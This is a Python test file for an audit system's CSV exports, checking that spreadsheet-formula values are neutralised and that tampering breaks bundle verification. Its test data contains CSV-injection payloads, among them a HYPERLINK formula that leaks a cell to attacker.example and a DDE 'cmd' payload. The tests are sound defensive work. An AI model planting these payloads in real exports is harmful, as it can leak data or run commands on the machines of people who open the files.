"""CSV injection (OWASP): a value that a spreadsheet would run as a formula is exported as text.

An attacker puts `=HYPERLINK(...)` where it reaches an export: a console user name (every sign-in
attempt is audited with the name typed), a case number, an element's name. The audit bundle's CSV
and the catalogue's CSV both prefix such cells with `'`; the offline verifier still matches the CSV
to the JSON Lines exactly, and a CSV edited back to the formula fails verification. A carriage
return inside a value is quoted, so it cannot start a new row whose first cell is a formula.
"""

import csv
import io
import zipfile
from pathlib import Path
from typing import Any

from fastapi.testclient import TestClient

from exchange.audit import bundle, keys, records, store
from exchange.audit.events import AuditAction
from exchange.audit.export import ExportFilter, write_bundle
from exchange.audit.verify import verify_bundle
from protocol.csv_cells import neutralise, restore
from tests.auditkit import pins
from tests.exchange.test_audit_tamper import make_log, rewrite

FORMULA = '=HYPERLINK("https://attacker.example/?leak="&A1,"详情")'
ATTACKS = [FORMULA, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1", "'=quoted"]
ATTACKS += ["row\r=1+1"]  # a new row starting with a formula, unless the cell is quoted


def test_the_neutralisation_is_one_to_one() -> None:
    for value in [*ATTACKS, "plain", "", "'", "''", "'plain", "a=b", "１=1"]:
        assert restore(neutralise(value)) == value
        assert not neutralise(value).startswith(("=", "+", "-", "@", "\t", "\r"))


def _sign_ins_and_queries(tmp_path: Path) -> Any:
    engine = make_log(tmp_path, 10)
    key = keys.load_or_create(tmp_path / "keys")
    policy = store.CheckpointPolicy(every=100, interval_s=3600)
    bodies = [
        records.console_sign_in(gateway="gw-0", username=a, outcome="console.login_invalid") for a in ATTACKS
    ]
    bodies += [
        records.query_step(
            AuditAction.ELEMENT_DECIDED,
            gateway="gw-0",
            department="zjj",
            subject_index="0" * 64,
            elements=["person.name"],
            service_item="330100-GZF-001",
            case_no=a,
            decision="allow",
            request_id=f"q-csv-{i:04d}",
        )
        for i, a in enumerate(ATTACKS)
    ]
    with engine.begin() as conn:
        store.append(conn, bodies, key=key, policy=policy)
        store.maybe_checkpoint(conn, key=key, policy=policy, force=True)
    return engine


def _csv_rows(path: Path) -> list[dict[str, str]]:
    with zipfile.ZipFile(path) as zf:
        return list(csv.DictReader(io.StringIO(zf.read(bundle.RECORDS_CSV).decode(), newline="")))


def test_formulas_in_audit_records_are_neutralised_and_the_bundle_still_verifies(tmp_path: Path) -> None:
    engine = _sign_ins_and_queries(tmp_path)
    path = tmp_path / "bundle.zip"
    write_bundle(engine, ExportFilter(), path, formats=("jsonl", "csv"))
    rows = _csv_rows(path)
    users = [r["actor_user"] for r in rows if r["action"] == "console.login_invalid"]
    cases = [r["case_no"] for r in rows if r["request_id"].startswith("q-csv-")]
    assert users == cases == [f"'{a}" for a in ATTACKS[:-1]] + ["row\r=1+1"]
    assert len(rows) == 10 + 2 * len(ATTACKS)  # no value split its row
    for row in rows:
        for cell in row.values():
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r"))
    report = verify_bundle(path, pinned=pins(tmp_path / "keys"))
    assert report.ok, report.problem


def test_a_csv_edited_back_to_the_formula_fails_verification(tmp_path: Path) -> None:
    engine = _sign_ins_and_queries(tmp_path)
    path = tmp_path / "bundle.zip"
    write_bundle(engine, ExportFilter(), path, formats=("jsonl", "csv"))
    quoted = "\"'" + FORMULA.replace('"', '""') + '"'
    formula = '"' + FORMULA.replace('"', '""') + '"'

    def unquote(lines: list[str]) -> list[str]:
        hit = next(i for i, line in enumerate(lines) if quoted in line)
        lines[hit] = lines[hit].replace(quoted, formula, 1)
        return lines

    tampered = rewrite(path, tmp_path / "tampered.zip", bundle.RECORDS_CSV, unquote)
    report = verify_bundle(tampered, pinned=pins(tmp_path / "keys"))
    assert not report.ok
    assert "csv" in (report.problem or "").lower()


def test_a_formula_in_an_element_name_is_neutralised_in_the_catalogue_export(client: TestClient) -> None:
    element = {
        "code": "person.csv_injection",
        "name_zh": FORMULA,
        "name_en": "@SUM(A1:A9)",
        "definition": "-2+3",
        "subject_type": "person",
        "source": "zjj",
        "sharing_type": "unconditional",
        "value_type": "string",
        "sensitivity": "internal",
    }
    assert client.post("/v1/elements", json=element).status_code == 201, "registered"
    exported = client.get("/v1/catalogue/export/elements.csv")
    assert exported.status_code == 200
    rows = list(csv.DictReader(io.StringIO(exported.text, newline="")))
    (row,) = [r for r in rows if r["code"] == "person.csv_injection"]
    assert (row["name_zh"], row["name_en"], row["definition"]) == (f"'{FORMULA}", "'@SUM(A1:A9)", "'-2+3")
    for r in rows:
        for cell in r.values():
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r"))
    # Re-importing the export gives the same names back (import restores the neutralised cells).
    from registry.catalogue_io.formats import parse_csv

    parsed = parse_csv(exported.text, None)
    assert not parsed.errors
    (again,) = [e for _, e in parsed.elements if e["code"] == "person.csv_injection"]
    assert (again["name_zh"], again["name_en"], again["definition"]) == (FORMULA, "@SUM(A1:A9)", "-2+3")
